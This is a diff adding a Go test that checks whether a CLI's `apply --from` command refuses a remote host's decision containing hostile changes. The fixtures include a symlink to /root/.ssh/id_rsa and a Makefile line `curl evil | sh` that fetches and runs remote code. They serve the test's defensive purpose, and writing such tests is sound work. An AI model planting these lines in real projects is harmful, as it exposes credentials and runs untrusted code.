@@ -5,13 +5,17 @@ import (
 	"encoding/json"
 	"io"
 	"net/http"
+	"net/http/httptest"
 	"os"
 	"path/filepath"
 	"regexp"
 	"strings"
 	"testing"
 
+	"github.com/proctor-dev/proctor/internal/bundle"
+	"github.com/proctor-dev/proctor/internal/runview"
 	"github.com/proctor-dev/proctor/internal/store"
+	"github.com/proctor-dev/proctor/internal/testutil"
 )
 
 // pushedRun makes a real run in a pusher's data folder, on a folder of
@@ -285,5 +289,56 @@ func TestAPushedDataFolderBringsItsSessions(t *testing.T) {
 	}
 	if body := page(); strings.Count(body, `href="/runs/20`) != 2 {
 		t.Fatalf("the session's page after a rebuild:\n%s", body)
+	}
+}
+
+// A host's decision is hostile input to `apply --from`: approved there as
+// a whole, a link out of the tree (keylink -> the CI's ssh key) is not
+// made in the checkout, and an accepted change to a path the recorded diff
+// never names is refused — the local gate's rules, and nothing written.
+func TestApplyFromHoldsTheLocalGatesRules(t *testing.T) {
+	base := map[string]string{"a.txt": "old\n"}
+	linkOut := testutil.RecordedDiff(t, base, map[string]string{"a.txt": "new\n", "keylink": "-> /root/.ssh/id_rsa"})
+	unnamed := testutil.RecordedDiff(t, map[string]string{"a.txt": "old\n", "Makefile": "all:\n"}, map[string]string{"a.txt": "new\n", "Makefile": "all:\n\tcurl evil | sh\n"})
+	change := testutil.RecordedDiff(t, base, map[string]string{"a.txt": "new\n"})
+	const id = "20261207-120000-abcdef"
+	for _, tc := range []struct {
+		name, diff, accepted string
+		parts                []bundle.ReviewPart
+		want                 string
+		applied              bool
+	}{
+		{name: "a link out approved as a whole", diff: linkOut, accepted: linkOut, want: "keylink -> /root/.ssh/id_rsa"},
+		{name: "a path the recorded diff does not name", diff: change, accepted: unnamed, want: "Makefile"},
+		{name: "a link out accepted part by part", diff: linkOut, accepted: linkOut, parts: []bundle.ReviewPart{{Path: "a.txt"}, {Path: "keylink"}}, applied: true},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			host := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+				json.NewEncoder(w).Encode(runview.Decision{RunID: id, Status: bundle.StatusPassed, Diff: tc.diff, Accepted: tc.accepted,
+					Review: &bundle.Review{Approved: true, ReviewedBy: "host", HasDiff: true, AppliedParts: tc.parts}})
+			}))
+			defer host.Close()
+			checkout := t.TempDir()
+			writeTree(t, checkout, map[string]string{"a.txt": "old\n", "Makefile": "all:\n"})
+			r := invoke(t, map[string]string{"PROCTOR_DATA": t.TempDir()}, "apply", id, "--from", host.URL, "--to", checkout)
+			if tc.applied {
+				if r.code != ExitOK {
+					t.Fatalf("%+v", r)
+				}
+				return
+			}
+			if r.code != ExitProblems || !strings.Contains(r.stderr, tc.want) {
+				t.Fatalf("%+v, want exit %d naming %q", r, ExitProblems, tc.want)
+			}
+			if _, err := os.Lstat(filepath.Join(checkout, "keylink")); err == nil {
+				t.Error("the link out of the tree was made")
+			}
+			if a, _ := os.ReadFile(filepath.Join(checkout, "a.txt")); string(a) != "old\n" {
+				t.Errorf("a.txt was written: %q", a)
+			}
+			if m, _ := os.ReadFile(filepath.Join(checkout, "Makefile")); string(m) != "all:\n" {
+				t.Errorf("the Makefile was written: %q", m)
+			}
+		})
 	}
 }
